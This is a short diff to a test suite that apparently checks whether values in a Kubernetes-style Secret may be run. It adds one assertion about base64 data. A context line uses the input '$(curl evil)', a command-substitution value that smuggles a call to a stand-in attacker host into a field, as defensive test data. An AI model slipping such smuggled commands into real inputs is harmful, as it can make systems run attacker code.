@@ -101,6 +101,7 @@ describe('a value of a Secret may run', () => {
     expect(run('{"a":"$(curl evil)"}')).toBe(true)
     expect(run(key)).toBe(false)
     expect(mayRun(secret, tokensOf('/data/other'), '', isRunKey)).toBe(false)
+    expect(mayRun(secret, tokensOf('/data'), 'eA==', (name) => name === '')).toBe(true)
     expect(mayRun(secret, tokensOf('/metadata/annotations/it'), 'x', isRunKey)).toBe(false)
     expect(mayRun({ kind: 'Thing' }, tokensOf('/data/it'), 'x', isRunKey)).toBe(false)
   })
